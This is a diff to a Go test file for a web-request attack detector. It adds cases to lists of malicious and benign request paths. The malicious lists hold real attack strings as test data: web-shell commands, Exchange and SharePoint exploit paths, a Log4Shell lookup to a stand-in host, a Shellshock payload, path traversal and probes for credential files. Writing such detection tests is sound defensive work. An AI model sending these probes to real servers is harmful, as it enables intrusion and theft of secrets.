@@ -86,11 +86,11 @@ func TestAttacksAreKnown(t *testing.T) {
 		}
 	}
 	f("web-shells", "POST /aspnet_client/shell.aspx?cmd=whoami -", "POST /owa/auth/help.aspx?cmd=dir -", "/owa/auth/Current/one.aspx", "/aspnet_client/system_web/log.aspx",
-		"/uploads/cmd.aspx", "/x.aspx?cmd=whoami", "/images/a.ashx?cmd=net%20user", "POST /aspnet_client/supp0rt.aspx -")
+		"/uploads/cmd.aspx", "/x.aspx?cmd=whoami", "/images/a.ashx?cmd=net%20user", "POST /aspnet_client/supp0rt.aspx -", "POST /owa/auth/RedirSuiteServiceProxy.aspx -")
 	f("microsoft-exploits", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.com", "POST /ecp/proxyLogon.ecp -", "POST /ecp/y.js -",
 		"POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx -", "POST /_layouts/16/ToolPane.aspx?DisplayMode=Edit&foo=/ToolPane.aspx -", "/_layouts/15/spinstall0.aspx", "/_layouts/16/spinstall9.aspx")
-	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/fckeditor/editor/filemanager/connectors/test.html", "POST /documentum/upload.aspx?parentid=x&raw=1&unzip=on -", "/SetupWizard.aspx/anything")
-	f("secret-files", "/.env", "/api/.env.bak", "/.git/HEAD", "/.git/config", "/web.config", "/.aws/credentials", "/certs/site.pfx", "/id_rsa", "/config/secrets.json")
+	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/fckeditor/editor/filemanager/connectors/test.html", "POST /documentum/upload.aspx?parentid=x&raw=1&unzip=on -", "/SetupWizard.aspx/anything", "/ScreenConnect/SetupWizard.aspx/x")
+	f("secret-files", "/.env", "/api/.env.bak", "/.git/HEAD", "/.git/config", "/web.config", "/.aws/credentials", "/certs/site.pfx", "/id_rsa", "/config/secrets.json", "/App_Data/shop.mdb", "/shop/app_data/users.xml", "/wp-config.php.swo", "/blog/wp-config.php~", "/wp-config.bak")
 	f("backup-files", "/backup.zip", "/old/backup.zip", "/www.rar", "/wwwroot.zip", "/db/shop.bak", "/dump.sql", "/mail/backup.pst", "/data/crm.mdf")
 	f("injection", "/static/..%2f..%2fweb.config%00", "/a.aspx?file=../../../../windows/win.ini", "/a.aspx?file=..%5c..%5c..%5cboot.ini", "/a.aspx?f=%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
 		"/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir", "/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi:ldap", "GET / ()+{+:;};+/bin/bash+-c+id",
@@ -123,7 +123,7 @@ func TestHealthyRequestsAreNoAttacks(t *testing.T) {
 		"/odata/Orders?$filter=Name+eq+%27O%27%27Neil%27+and+Total+gt+5&$orderby=Id+desc", "/odata/Orders?$filter=Id+eq+5+or+Id+eq+6", "/a.aspx?ReturnUrl=..%2fdefault.aspx", "/a.aspx?ReturnUrl=%2fapp%2fb.aspx%3fx%3d1",
 		"/_layouts/15/start.aspx#/Lists/a", "/_layouts/15/ToolPane.aspx", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.com%2fowa%2f", "/owa/auth/errorFE.aspx?httpCode=500", "/owa/auth/logoff.aspx?Cmd=logoff", "/owa/auth/expiredpassword.aspx", "/owa/auth/signout.aspx",
 		"/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync&RedirectCount=1", "/autodiscover/autodiscover.json/v1.0/a%40example.com?Protocol=Ews", "/ecp/default.aspx", "/ecp/UsersGroups/Mailboxes.slab?reqId=1",
-		"/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/Telerik.Web.UI.WebResource.axd?type=rau", "/ckfinder/ckfinder.html", "/human.aspx", "/shell.html", "/scripts/shell.js", "/app/login.aspx?cmd=login", "/a.aspx?cmd=network",
+		"/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/Telerik.Web.UI.WebResource.axd?type=rau", "/ckfinder/ckfinder.html", "/human.aspx", "/app_data_sheet.aspx", "/SetupWizard.aspx", "/blog/about-wp-config.html", "/shell.html", "/scripts/shell.js", "/app/login.aspx?cmd=login", "/a.aspx?cmd=network",
 		"/site/contact.zip", "/downloads/setup.zip", "/files/site-plan.zip", "/Dockerfile", "/app/appsettings.json", "/favicon.ico", "/robots.txt", "/wp-login.php", "/admin/", "/search.aspx?q=50%25+off+%26+more", "/search.aspx?q=c%2B%2B+%26%26+c%23",
 		"/search.aspx?q=(select+one)", "/a.aspx?x=%7B%22a%22%3A1%7D", "/a.aspx?filter=%7B%7D&b=%3Cb%3E", "/search.aspx?q=me+and+you=us", "/search.aspx?q=price+%3C+100+or+size+%3E+5", "/a.aspx?t=2026-11-29+10:00:00--x",
 		"/bundles/jquery?v=JVBM4Dk7eZ'or", "/a.aspx?type=Large+(1)", "/a.aspx?name=D%27Angelo", "/a.aspx?names='a','b'", "/a.aspx?ids='1','2'", "/a.aspx?q=it's+10",
